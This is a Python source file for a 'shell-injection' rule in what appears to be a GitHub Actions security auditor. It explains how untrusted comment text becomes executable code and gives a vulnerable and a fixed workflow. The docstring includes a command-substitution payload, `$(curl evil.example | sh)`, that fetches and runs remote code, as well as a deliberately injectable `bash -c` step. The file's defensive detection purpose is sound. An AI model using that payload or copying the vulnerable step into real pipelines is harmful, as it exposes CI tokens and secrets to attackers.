"""Text that somebody else writes is run as code by the script itself.

## Why it matters

A text that comes through `env` is safe in `"$TITLE"`, since the shell doesn't look into it. It isn't safe
any more where the script makes code of it: `eval`, `bash -c "… $TITLE"`, a pipe into `sh`, `python -c`, the
command of `ssh` or of `docker run … sh -c`, or the name of a command. A title `$(curl evil.example | sh)`
then runs with the job's token and secrets.

## How to fix

Hand the text to a program as an argument or through its environment, in double quotes, and let no shell
read it again. `bash -c 'run "$0"' "$TEXT"` keeps it an argument.

## Bad

```yaml
name: bench
on:
  issue_comment:
    types: [created]
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - run: bash -c "./bench $BODY"
        env:
          BODY: ${{ github.event.comment.body }}
```

## Good

```yaml
name: bench
on:
  issue_comment:
    types: [created]
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - run: ./bench "$BODY"
        env:
          BODY: ${{ github.event.comment.body }}
```

## What this rule cannot see

What a program does with its arguments, unless it is known to run them. Scripts in languages other than
shells, JavaScript of `actions/github-script`. What `${{ }}` puts into a script is `template-injection`.

## References

- https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections
- https://cwe.mitre.org/data/definitions/78.html
"""

from collections.abc import Iterator

from auditor.api import Confidence, Facts, Hit, Severity, Step, TextSink, TextSinkKind, Verdict, rule


@rule(
    Step,
    id="shell-injection",
    title="Untrusted text is run as code by a script",
    severity=Severity.HIGH,
    cwe=78,
    owasp="CICD-SEC-4",
    boundary="code",
    since="0.2.0",
)
def check(step: Step, facts: Facts) -> Iterator[Hit]:
    """One hit a place in the script; the worst way to it decides how bad it is."""
    for sink in facts.text_sinks.of(step):
        if sink.kind is TextSinkKind.CODE:
            yield _hit(sink)


def _hit(sink: TextSink) -> Hit:
    worst = sink.splices[0]
    evaluable = worst.author is not None
    return Hit(
        message=f"{worst.whose} `{worst.name}` becomes {sink.what}",
        at=sink.location,
        severity=min(worst.severity, Severity.HIGH),
        confidence=Confidence.HIGH if evaluable else Confidence.LOW,
        verdict=Verdict.EXPOSED if evaluable else Verdict.NOT_EVALUABLE,
        traces=tuple(splice.trace(f"it becomes {sink.what}", sink.location) for splice in sink.splices[:5]),
    )
